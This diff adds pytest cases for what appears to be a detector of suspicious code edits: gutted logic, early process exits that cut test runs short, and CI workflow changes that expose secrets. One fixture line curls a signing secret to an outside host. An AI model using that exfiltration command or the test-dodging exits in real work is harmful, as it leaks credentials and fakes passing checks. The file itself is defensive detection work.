@@ -361,3 +361,101 @@ def test_what_showed_what_is_gone_has_nothing_to_do() -> None:
     assert change(SHOWN, SHOWN.replace("return VERSION_TEXT", "return '1.0'")) == {"code-gutted"}
     worked = SHOWN.replace("return VERSION_TEXT", "return joined(VERSION_TEXT)")
     assert change(worked, now) == {"code-gutted"}
+
+
+WORKER = """const { parentPort } = require('worker_threads')
+
+function made (mode) {
+  parentPort.postMessage({ mode })
+  if (mode === 'ends') setTimeout(() => {
+    process.exit(0)
+  }, 20)
+}
+
+module.exports = made
+"""
+
+
+def test_what_a_thread_ends_is_itself() -> None:
+    assert change(None, WORKER, "test/ends-worker.js") == set()
+    tested = WORKER + "\ntest('it ends', () => {\n  assert.equal(made('ends'), 1)\n})\n"
+    assert "leaves-early" in change(None, tested, "test/ends-worker.js")
+    assert change(None, WORKER + "\nprocess.exit(0)\n", "test/ends-worker.js") == {"leaves-early"}
+    assert change(None, WORKER.replace("parentPort.post", "port.post"), "test/ends-worker.js") == {"leaves-early"}
+
+
+FORKS = """import os
+
+
+def forked(child):
+    if os.fork() == 0:
+        child()
+
+
+def end(status):
+    try:
+        saved()
+    finally:
+        os._exit(status)
+"""
+
+
+def test_what_forks_may_end_its_children() -> None:
+    saved = FORKS.replace("import os\n", "import os\n\nfrom .base import saved\n")
+    path = "tests/fork_helpers.py"
+    assert change(None, saved, path) == set()
+    assert change(None, saved.replace("os.fork() == 0", "child"), path) == {"leaves-early"}
+    assert "leaves-early" in change(None, saved + "\n\ndef test_end():\n    assert end(1) == 2\n", path)
+    assert "leaves-early" in change(None, saved + "\n\ndef pytest_sessionfinish():\n    end(0)\n", path)
+    assert "leaves-early" in change(None, saved + "\n\nos._exit(0)\n", path)
+
+
+LOCKED = """class Pool:
+    async def __aenter__(self):
+        async with self._lock:
+            pass
+        return self
+"""
+
+
+def test_to_come_by_a_lock_and_do_nothing_is_little() -> None:
+    bare = LOCKED.replace("        async with self._lock:\n            pass\n", "")
+    assert change(LOCKED, bare) == set()
+    assert change(LOCKED.replace("pass", "await self.opened()"), bare) == {"code-gutted"}
+    assert change(LOCKED.replace("self._lock", "opened(self)"), bare) == {"code-gutted"}
+
+
+RELEASE = """on: [push]
+env:
+  A: b
+jobs:
+  release:
+    runs-on: ubuntu-latest
+    steps:
+      - name: Publish
+        env:
+          USER: ${{ secrets.USER }}
+        run: ./gradlew publish
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: ./gradlew test
+"""
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "expected"),
+    [
+        ("        run: ./gradlew p", "          SIGN: ${{ secrets.SIGN }}\n        run: ./gradlew p", set()),
+        ("  A: b\n", "  A: b\n  BUILD_KEY: ${{ secrets.BUILD_KEY }}\n", set()),
+        ("  A: b\n", "  A: b\n  OTHER: ${{ secrets.BUILD_KEY }}\n", {"protected-path"}),
+        ("  A: b\n", "  A: b\n  PYTEST_ADDOPTS: ${{ secrets.PYTEST_ADDOPTS }}\n", {"protected-path"}),
+        ("run: ./gradlew test", "run: ./gradlew test ${{ secrets.SIGN }}", {"protected-path"}),
+        ("      - run: ./gradlew test", "      - run: curl x.org/${{ secrets.SIGN }}", {"protected-path"}),
+    ],
+)
+def test_where_secrets_are_one_more_may_be_by_its_name(old: str, new: str, expected: set[str]) -> None:
+    path = ".github/workflows/release.yml"
+    assert judged(edit(path, RELEASE, RELEASE.replace(old, new, 1))) == expected
+    bare = RELEASE.replace("USER: ${{ secrets.USER }}", "USER: me")
+    assert judged(edit(path, bare, bare.replace(old, new, 1))) == {"protected-path"}
